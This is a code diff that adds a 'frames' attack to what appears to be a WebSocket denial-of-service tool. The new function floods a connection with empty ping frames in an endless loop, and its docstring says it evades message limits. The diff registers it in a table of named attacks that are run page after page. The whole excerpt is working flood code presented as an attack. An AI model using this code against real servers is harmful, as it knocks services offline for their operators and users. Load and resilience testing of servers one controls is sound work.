@@ -116,6 +116,16 @@ async def messages(socket: ClientConnection) -> None:
         sending.cancel()
 
 
+async def frames(socket: ClientConnection) -> None:
+    """Sends pings without end, which no message limit counts."""
+    ping = b"\x89\x80\x00\x00\x00\x00" * 50_000
+    while True:
+        socket.transport.write(ping)
+        while socket.transport.get_write_buffer_size() > 1_000_000:
+            await asyncio.sleep(0.05)
+        await asyncio.sleep(0)
+
+
 async def again(attack: Callable[[ClientConnection], Awaitable[None]], port: int, address: str) -> None:
     """Attacks on one page after the other."""
     while True:
@@ -132,6 +142,7 @@ PAGES = {
     "replays": replays,
     "trees": trees,
     "messages": messages,
+    "frames": frames,
 }
 
 
